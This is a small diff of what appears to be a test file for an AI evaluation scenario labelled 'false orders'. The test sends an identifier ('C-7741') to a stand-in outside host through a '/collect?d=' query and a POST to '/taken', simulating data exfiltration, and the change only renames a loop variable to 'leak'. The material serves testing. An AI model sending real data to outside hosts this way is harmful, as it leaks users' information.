@@ -55,8 +55,8 @@ describe('the errands of the eval', () => {
     const errand = errands.find(({ topic }) => topic === 'false orders') ?? expect.fail();
     const site = await startEvalSite(errand.site, strangers);
     try {
-      for (const told of [`${site.elsewhere}/collect?d=C-7741`, `${site.elsewhere}/`])
-        await (await fetch(told)).text();
+      for (const leak of [`${site.elsewhere}/collect?d=C-7741`, `${site.elsewhere}/`])
+        await (await fetch(leak)).text();
       await fetch(`${site.elsewhere}/taken`, {
         method: 'POST',
         body: new URLSearchParams({ number: 'C-7741' }),
